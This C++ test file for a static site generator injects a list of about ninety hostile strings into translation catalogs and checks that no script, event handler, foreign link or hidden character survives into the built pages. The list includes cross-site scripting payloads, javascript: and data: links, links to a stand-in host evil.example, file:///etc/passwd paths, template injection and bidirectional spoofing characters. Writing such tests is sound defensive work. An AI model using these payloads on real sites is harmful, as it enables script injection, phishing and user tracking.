// Whoever writes a catalog may write anything into it. Every attack below is the translation of every text of a project
// at once: titles, alternatives, links, cells, headings, code, front matter, data, the words of the site. The site must
// then have no tag and no address that harmless translations would not give it, whatever the texts between them say.
#include "../project/folder.h"
#include "hexapla/site/site.h"

#include <algorithm>
#include <cctype>
#include <iterator>
#include <map>

using namespace hexapla;
using test::Folder;

namespace {

const std::vector<std::string> texts{"Home",
                                     "Page",
                                     "Sum",
                                     "Alternative",
                                     "Caption",
                                     "Label",
                                     "Plain words here.",
                                     "A heading",
                                     "An item",
                                     "Tight",
                                     "Cell",
                                     "Head",
                                     "See [a page](page.md) and [b](https://example.org/b \\\"T\\\").",
                                     "A `code` and *emphasis*.",
                                     "![Picture](a.svg)",
                                     "A note.",
                                     "Raw text",
                                     "Line with <b>bold</b> text",
                                     "Site name",
                                     "Skip",
                                     "Suggestion",
                                     "Menu",
                                     "Headline",
                                     "Remark",
                                     "Raw label"};

/// In PO's escapes.
const std::vector<std::string> attacks{
    // scripts and handlers
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=\\\"data:text/html,x\\\"></object>",
    "<embed src=//evil.example>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<b onmouseover=alert(1)>bold</b>",
    "<b style=\\\"position:fixed;inset:0\\\">bold</b>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=\\\"0;url=//evil.example\\\">",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=p></form>",
    "<template><script>x</script></template>",
    "<noscript><p title=\\\"</noscript><img src=x onerror=alert(1)>\\\">",
    "<img src=x onerror=alert(1) ",
    "<svg/onload=alert(1)//",
    "<b onmouseover=alert(1)",
    "</b onclick=x",
    "<a href=javascript:alert(1) x=",
    // out of attributes and elements
    "\\\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\\\" onmouseover=\\\"alert(1)",
    "\\\" autofocus onfocus=alert(1) x=\\\"",
    "</h1><h1>two",
    "</p></article></main><p>",
    "--><script>alert(1)</script><!--",
    "<!-- hidden",
    "<![CDATA[x]]>",
    "<?php x ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onclick=&quot;alert(1)",
    // links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](https:\\\\\\\\evil.example)",
    "[x](https://example.org@evil.example)",
    "[x](https://ex\u0430mple.org)",
    "<javascript:alert(1)>",
    "<https://evil.example>",
    "https://evil.example/phish",
    "www.evil.example",
    "[x][ref]\\n\\n[ref]: https://evil.example",
    "![x](https://evil.example/track.gif)",
    "See [a page](../../../etc/passwd).",
    "[x](mailto:evil@evil.example)",
    "[x](file:///etc/passwd)",
    "[x](page.md \\\"\\\\\\\" onclick=alert(1)\\\")",
    // structure
    "# Heading",
    "- item\\n- item",
    "> quote",
    "```\\ncode",
    "| a | b |\\n|---|---|\\n| c | d |",
    "---\\ntitle: x\\n---",
    "text\\n===",
    "{#other-id}",
    "A heading {#x .y onclick=z}",
    "[^1]\\n\\n[^1]: note",
    "| cell | more |",
    "a\\n\\nb",
    // templates and shortcodes
    "{{{body}}}",
    "{{> page}}",
    "{{#pages}}x{{/pages}}",
    "{{=<% %>=}}",
    "{{< figure src=x >}}",
    "{% raw %}",
    // invisible and bidirectional
    "\u202Egnp.exe",
    "a\u2066b\u2069\u202Dc",
    "pay\u200Bpal",
    "x\u2028y\u2029z",
    "\\001//evil.example",
    "a\\000b",
    "\uFEFFx",
    "<a\u200Bb>",
};

void make_project(const Folder& folder) {
  folder.write("hexapla.yaml",
               "project: Test\nsource: en\nlanguages: [fr]\nsite: {url: \"https://example.org\"}\ncontent:\n"
               "  - pages: content/**/*.md\n    front_matter: [title, summary, image.alt, image.caption, "
               "\"resources[].label\"]\n"
               "  - pages: content/site.yaml\n    keys: [\"strings.*\"]\n"
               "  - pages: content/news.yaml\n    keys: [\"news[].title\", \"news[].note\"]\n");
  folder.write("content/index.md", "---\ntitle: Home\n---\n\nPlain words here.\n\nNever translated.\n");
  folder.write(
      "content/profiles/page.md",
      "---\ntitle: Page\nsummary: Sum\nimage: {src: a.svg, alt: Alternative, caption: Caption}\nresources:\n"
      "  - {label: Label, url: \"https://example.org\"}\ndate: 2026-01-01\n---\n\n## A heading\n\n- An item\n\n- "
      "Tight\n\n"
      "| Head | x |\n|---|---|\n| Cell | 1 |\n\nSee [a page](page.md) and [b](https://example.org/b \"T\").\n\n"
      "A `code` and *emphasis*.\n\n![Picture](a.svg)\n\n> A note.\n\n<div title=\"Raw label\">Raw text</div>\n\n"
      "Line with <b>bold</b> text\n\nNever translated.\n");
  folder.write("content/profiles/a.svg", "<svg/>");
  folder.write("content/site.yaml",
               "strings:\n  site_name: Site name\n  skip_to_content: Skip\n  main_menu: Menu\n"
               "  language_suggestion: Suggestion\n");
  folder.write("content/news.yaml",
               "news:\n  - date: 2026-01-01\n    title: Headline\n    note: Remark\n    url: https://example.org/n\n");
}

/// An attribute whose value is a text for readers.
bool is_text(std::string_view name) {
  return name == "alt" || name == "title" || name == "content" || name == "aria-label";
}

/// The tags of a page as a browser's tokenizer sees them, without words: <NAME ATTRIBUTE="VALUE"…>. Written for this
/// test alone, after the states of the HTML standard.
std::vector<std::string> skeleton(const std::string& html) {
  std::vector<std::string> tags;
  for (std::size_t at = 0; (at = html.find('<', at)) != std::string::npos;) {
    std::size_t i = at + 1;
    const bool opens = i < html.size() && (std::isalpha(static_cast<unsigned char>(html[i])) != 0 || html[i] == '/' ||
                                           html[i] == '!' || html[i] == '?');
    at = i;
    if (!opens) continue;
    std::string tag = "<";
    while (i < html.size() && std::string_view(" \t\n\f/>").find(html[i]) == std::string_view::npos) tag += html[i++];
    if (tag == "<" && html[i] == '/') {
      tag += html[i++];
      while (i < html.size() && std::string_view(" \t\n\f/>").find(html[i]) == std::string_view::npos) tag += html[i++];
    }
    while (i < html.size() && html[i] != '>') {
      if (std::string_view(" \t\n\f/").find(html[i]) != std::string_view::npos) {
        ++i;
        continue;
      }
      std::string name;
      std::string value;
      while (i < html.size() && std::string_view(" \t\n\f/>=").find(html[i]) == std::string_view::npos)
        name += html[i++];
      if (i < html.size() && html[i] == '=') {
        const char quote = html[++i];
        if (quote == '"' || quote == '\'') {
          const std::size_t end = html.find(quote, i + 1);
          value = html.substr(i + 1, end - i - 1);
          i = end == std::string::npos ? html.size() : end + 1;
        } else {
          while (i < html.size() && std::string_view(" \t\n\f>").find(html[i]) == std::string_view::npos)
            value += html[i++];
        }
      }
      if (name != "lang" && name != "dir" && name != "xml:lang" && !is_text(name)) tag += " " + name + "=" + value;
    }
    at = i;
    if (tag != "<span" && tag != "</span") tags.push_back(tag);
  }
  return tags;
}

/// Tags of `page` that are more than in `harmless`. A translation may leave a link or an emphasis out, and may have a
/// link more often where the page has it already.
std::string too_many(std::vector<std::string> page, std::vector<std::string> harmless) {
  std::erase_if(page, [&](const std::string& tag) {
    return tag == "</a" || (tag.starts_with("<a ") && std::count(harmless.begin(), harmless.end(), tag) != 0);
  });
  std::sort(page.begin(), page.end());
  std::sort(harmless.begin(), harmless.end());
  std::vector<std::string> more;
  std::set_difference(page.begin(), page.end(), harmless.begin(), harmless.end(), std::back_inserter(more));
  return test::joined(more);
}

std::map<std::string, std::vector<std::string>> build(const Folder& folder, const std::string& translation) {
  std::vector<std::pair<std::string, std::string>> messages;
  for (const std::string& text : texts) messages.emplace_back(text, translation.empty() ? text + " x" : translation);
  folder.write("locales/fr.po", test::po("fr", messages));
  SiteOptions options;
  options.folder = folder.at("out");
  run_site(folder.project(), options);
  std::map<std::string, std::vector<std::string>> pages;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(folder.at("out"))) {
    const std::string name = entry.path().string();
    if (name.ends_with(".html") || name.ends_with(".xml")) pages[name] = skeleton(read_file(name));
  }
  return pages;
}

}  // namespace

TEST_CASE("no attack from a catalog reaches a page", "[site]") {
  REQUIRE(attacks.size() >= 60);
  const Folder folder;
  make_project(folder);
  const auto harmless = build(folder, "");
  REQUIRE(harmless.size() > 6);
  for (const std::string& attack : attacks) {
    INFO(attack);
    const auto attacked = build(folder, attack);
    CHECK(attacked.size() <= harmless.size());  // of a catalog that cannot be read nothing is shown
    for (const auto& [page, tags] : attacked) {
      INFO(page);
      CHECK(too_many(tags, harmless.at(page)).empty());
      const std::string html = read_file(page);
      for (const char* hidden : {"\u202E", "\u202D", "\u2066", "\x01"}) CHECK(html.find(hidden) == std::string::npos);
    }
    for (const char* name : {"out/fr/search/words-0.js", "out/fr/search/text-0.js", "out/theme/suggestions.js"}) {
      INFO(name);
      CHECK(folder.read(name).find_first_of("<>&'`\x01") == std::string::npos);
    }
  }
}

TEST_CASE("the test would see an attack", "[site]") {
  CHECK(skeleton("<p>a</p>") == std::vector<std::string>{"<p", "</p"});
  CHECK(skeleton("<p title=\"\"><b>\">") != skeleton("<p title=\"\">"));
  CHECK(skeleton("<p title=\"x\" onclick=\"y\">") != skeleton("<p title=\"x onclick=y\">"));
  CHECK(skeleton("<a href=\"javascript:x\">") != skeleton("<a href=\"page/\">"));
  CHECK(too_many({"<b", "<b"}, {"<b"}) == "<b");
  CHECK(too_many({"<b"}, {"<b", "<i"}).empty());
}
